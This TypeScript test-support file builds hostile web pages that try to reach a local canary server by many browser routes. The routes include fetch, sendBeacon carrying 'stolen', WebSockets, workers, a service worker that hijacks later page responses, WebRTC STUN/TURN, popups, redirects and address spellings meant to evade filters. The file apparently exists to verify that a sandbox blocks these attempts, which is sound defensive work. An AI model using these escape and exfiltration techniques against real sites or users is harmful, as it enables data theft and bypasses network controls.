import type { StandIn } from '../../fixtures/provider/server.js';
import type { Canary } from '../support/canary.js';

/** One way out of a page, and what it leaves at the canary when nothing stops it. */
export interface Attack {
  readonly hit: string;
  /** Markup for the body; runs by itself. */
  readonly html?: (aim: Aim) => string;
  /** A script; the page tells how it ended. */
  readonly script?: (aim: Aim) => string;
  /** Headers of the page. Such an attack has a page of its own. */
  readonly headers?: (aim: Aim) => Readonly<Record<string, string>>;
}

/** Where a page aims. */
export interface Aim {
  /** `http://127.0.0.1:<port>` of the canary. */
  readonly http: string;
  /** The same over TLS. */
  readonly https: string;
  /** `https://canary.example`: a name that would lead there. */
  readonly named: string;
  readonly ws: string;
  readonly tcpPort: number;
  readonly udpPort: number;
}

export function aimAt({ port, udpPort }: Canary): Aim {
  return {
    http: `http://127.0.0.1:${port}`,
    https: `https://127.0.0.1:${port}`,
    named: 'https://canary.example',
    ws: `ws://127.0.0.1:${port}`,
    tcpPort: port,
    udpPort,
  };
}

/** Address of the report a page sends to its own host when all its scripts have run. */
const REPORT_PATH = '/maps/attack-report';

/** Below it the page's own host redirects to the same path of the canary. */
const REDIRECT_PATH = '/maps/attack-redirect';

/** A request of the page for its data that is never answered: the service waits on. */
const HOLD_PATH = '/maps/preview/place?hold';

/** What the page's own host serves beside the page, by path. */
const SERVICE_WORKER_PATH = '/maps/attack-worker.js';

const tag = (hit: string, html: (aim: Aim) => string): Attack => ({ hit, html });
const run = (hit: string, script: (aim: Aim) => string): Attack => ({ hit, script });

/** What a page loads with itself: one of each way through Chromium, and each spelling of this machine. */
export const SUB_RESOURCES: readonly Attack[] = [
  tag('GET /img', ({ http }) => `<img src="${http}/img">`),
  tag('GET /js-script', ({ http }) => `<script async src="${http}/js-script"></script>`),
  tag('GET /css-link', ({ http }) => `<link rel="stylesheet" href="${http}/css-link">`),
  tag('GET /iframe', ({ http }) => `<iframe src="${http}/iframe"></iframe>`),
  tag('GET /prefetch', ({ http }) => `<link rel="prefetch" href="${http}/prefetch">`),
  tag(
    'GET /rules-prerender',
    ({ http }) =>
      `<script type="speculationrules">{"prerender":[{"urls":["${http}/rules-prerender"],"eagerness":"immediate"}]}</script>`,
  ),
  tag('GET /redirected-script', () => `<script async src="${REDIRECT_PATH}/redirected-script"></script>`),
  tag('GET /named', ({ named }) => `<script async src="${named}/named"></script>`),
  tag('GET /tls', ({ https }) => `<script async src="${https}/tls"></script>`),
  tag(
    'GET /mapped',
    ({ tcpPort }) => `<script async src="http://[::ffff:127.0.0.1]:${tcpPort}/mapped"></script>`,
  ),
  tag(
    'GET /localhost',
    ({ tcpPort }) => `<script async src="http://localhost:${tcpPort}/localhost"></script>`,
  ),
  tag(
    'GET /sub-localhost',
    ({ tcpPort }) => `<script async src="http://canary.localhost:${tcpPort}/sub-localhost"></script>`,
  ),
  tag('GET /decimal', ({ tcpPort }) => `<script async src="http://2130706433:${tcpPort}/decimal"></script>`),
  tag('GET /zero', ({ tcpPort }) => `<script async src="http://0.0.0.0:${tcpPort}/zero"></script>`),
];

/** What a script sends. */
export const REQUESTS: readonly Attack[] = [
  run('GET /fetch', ({ http }) => `await fetch('${http}/fetch').then((r) => r.text())`),
  run('GET /redirected-fetch', () => `await fetch('${REDIRECT_PATH}/redirected-fetch', {mode: 'no-cors'})`),
  run(
    'POST /beacon',
    ({ http }) => `if (!navigator.sendBeacon('${http}/beacon', 'stolen')) throw new Error('beacon')`,
  ),
  run(
    'GET /events-source',
    ({ http }) =>
      `await new Promise((done, fail) => { const e = new EventSource('${http}/events-source'); e.onopen = () => { e.close(); done() }; e.onerror = () => { e.close(); fail(new Error('events')) } })`,
  ),
  run(
    'GET /ws-page',
    ({ ws }) => `await new Promise((done) => { new WebSocket('${ws}/ws-page').onclose = done })`,
  ),
  run(
    'POST /form',
    ({ http }) =>
      `document.body.insertAdjacentHTML('beforeend', '<iframe name="sink"></iframe><form method="post" target="sink" action="${http}/form"><input name="a" value="b"></form>'); document.forms[0].submit()`,
  ),
];

const inWorker = (body: string) =>
  `URL.createObjectURL(new Blob([${JSON.stringify(body)}], {type: 'text/javascript'}))`;
const ask = (worker: string) =>
  `await new Promise((done, fail) => { const w = ${worker}; w.onmessage = done; w.onerror = (e) => fail(new Error('worker ' + e.message)) })`;

/** What a worker sends. */
export const WORKERS: readonly Attack[] = [
  run('GET /worker', ({ http }) =>
    ask(`new Worker(${inWorker(`fetch('${http}/worker').finally(() => postMessage(1))`)})`),
  ),
  run('GET /js-worker-import', ({ http }) =>
    ask(
      `new Worker(${inWorker(`try { importScripts('${http}/js-worker-import') } finally { postMessage(1) }`)})`,
    ),
  ),
  run('GET /ws-worker', ({ ws }) =>
    ask(`new Worker(${inWorker(`new WebSocket('${ws}/ws-worker').onclose = () => postMessage(1)`)})`),
  ),
  run(
    'GET /shared',
    ({ http }) =>
      `await new Promise((done, fail) => { const w = new SharedWorker(${inWorker(`onconnect = ({ports}) => fetch('${http}/shared').finally(() => ports[0].postMessage(1))`)}); w.port.onmessage = done; w.onerror = fail })`,
  ),
  run(
    'GET /service-worker',
    () =>
      `const r = await navigator.serviceWorker.register('${SERVICE_WORKER_PATH}'); if (!r) throw new Error('no registration'); await navigator.serviceWorker.ready`,
  ),
];

/** What is not HTTP. */
export const TRANSPORTS: readonly Attack[] = [
  run(
    'STUN',
    ({ udpPort }) =>
      `const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:${udpPort}'}]}); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((done) => { p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && done() })`,
  ),
  run('QUIC', ({ udpPort }) => `await new WebTransport('https://127.0.0.1:${udpPort}/x').ready`),
  run(
    'TURN',
    ({ tcpPort }) =>
      `const p = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:${tcpPort}?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((done) => { p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && done() })`,
  ),
];

const click = (attributes: string) =>
  `document.body.insertAdjacentHTML('beforeend', '<a id="go" ${attributes}>go</a>'); document.getElementById('go').click()`;

/** Ways to open another window elsewhere. */
export const WINDOWS: readonly Attack[] = [
  run('GET /anchor-blank', ({ http }) => click(`target="_blank" rel="noopener" href="${http}/anchor-blank"`)),
  run('GET /popup', ({ http }) => `open('${http}/popup')`),
  run('GET /popup-redirected', () => `open('${REDIRECT_PATH}/popup-redirected')`),
];

/** Ways to take the page itself elsewhere: each needs a page of its own. */
export const NAVIGATIONS: readonly Attack[] = [
  tag('GET /meta-refresh', ({ http }) => `<meta http-equiv="refresh" content="0;url=${http}/meta-refresh">`),
  run('GET /assign', ({ http }) => `location.assign('${http}/assign')`),
  run('GET /to-name', ({ named }) => `location.href = '${named}/to-name'`),
  run('GET /to-tls', ({ https }) => `location.href = '${https}/to-tls'`),
  run('GET /redirected', () => `location.href = '${REDIRECT_PATH}/redirected'`),
  run(
    'POST /form-top',
    ({ http }) =>
      `document.body.insertAdjacentHTML('beforeend', '<form method="post" action="${http}/form-top"><input name="a" value="b"></form>'); document.forms[0].submit()`,
  ),
  run(
    'GET /popup-opener',
    ({ http }) => `open('about:blank').eval("opener.location.href = '${http}/popup-opener'")`,
  ),
  { hit: 'GET /refresh-header', headers: ({ http }) => ({ refresh: `0;url=${http}/refresh-header` }) },
  {
    hit: 'GET /link-header',
    headers: ({ http }) => ({ link: `<${http}/link-header>; rel=preload; as=script` }),
  },
];

/** Asks the canary once, and would answer the host's next visitor in its stead. */
function serviceWorkerScript({ http }: Aim): string {
  return `
addEventListener('install', (event) => {
  const asked = fetch('${http}/service-worker', { mode: 'no-cors' }).catch(() => undefined);
  event.waitUntil(asked.then(() => skipWaiting()));
});
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  const { url } = event.request;
  if (url.startsWith(origin) && !url.includes('/maps/attack-')) event.respondWith(new Response('caught'));
});`;
}

/**
 * The attacks as one page. When each script has ended or had its time it tells its own host how:
 * `<hit>=ok|late|<error>`. Until then a page with `hold` waits for data, and so does the service.
 */
function hostilePage({ attacks, before = '', hold = false }: HostilePage, aim: Aim): string {
  const calls = attacks.flatMap(({ hit, script }) =>
    script === undefined ? [] : [`attempt(${JSON.stringify(hit)}, async () => { ${script(aim)} })`],
  );
  const markup = attacks.map(({ html }) => html?.(aim) ?? '');
  return `${before}<!doctype html><meta charset="utf-8"><title>hostile</title><body>
<script>
const held = new AbortController();
if (${hold}) fetch('${HOLD_PATH}', { signal: held.signal }).catch(() => undefined);
</script>
${markup.join('\n')}
<script>
const time = (ms, value) => new Promise((done) => setTimeout(done, ms, value));
const attempt = (hit, attack) => {
  const ended = attack().then(() => 'ok', (error) => String(error.message).slice(0, 200));
  return Promise.race([ended, time(1500, 'late')]).then((how) => [hit, how]);
};
Promise.all([${calls.join(',\n')}])
  .then((ends) => time(700, ends))
  .then((ends) => fetch('${REPORT_PATH}?' + new URLSearchParams(ends)))
  .finally(() => held.abort());
</script>`;
}

/** A page of the provider, by something its address holds. */
export interface HostilePage {
  readonly address: string;
  readonly attacks: readonly Attack[];
  /** Markup that goes first. */
  readonly before?: string;
  /** Keeps the service waiting until the attacks had their time. */
  readonly hold?: boolean;
}

/** Has the stand-in serve these pages and all they need on their own host, until `standIn.reset()`. */
export function serveHostile(standIn: StandIn, aim: Aim, pages: readonly HostilePage[]): void {
  const at = (path: string) => (_host: string, asked: string) => asked.startsWith(path);
  const scripts = { kind: 'body', contentType: 'text/javascript' } as const;
  standIn.fault({ ...scripts, body: serviceWorkerScript(aim), match: at(SERVICE_WORKER_PATH) });
  standIn.fault({ ...scripts, body: '', match: at(REPORT_PATH) });
  standIn.fault({ kind: 'hang', match: at(HOLD_PATH) });
  for (const { hit } of pages.flatMap(({ attacks }) => attacks)) {
    const path = hit.replace(/^\w+ /, '');
    standIn.fault({
      kind: 'redirect',
      to: aim.http + path,
      match: (_host, asked) => asked === REDIRECT_PATH + path,
    });
  }
  for (const page of pages) {
    const match = (_host: string, asked: string) => asked.includes(page.address);
    const headers = page.attacks[0]?.headers?.(aim);
    const body = hostilePage(page, aim);
    if (headers !== undefined) standIn.fault({ kind: 'status', code: 200, headers, match });
    else standIn.fault({ kind: 'body', contentType: 'text/html; charset=UTF-8', body, match });
  }
}

/** What the pages said: how each script ended, by its hit. */
export function reportsTo(standIn: StandIn): ReadonlyMap<string, string> {
  const reports = standIn.requests.filter(({ path }) => path.startsWith(REPORT_PATH));
  return new Map(reports.flatMap(({ path }) => [...new URL(path, 'https://x.invalid').searchParams]));
}
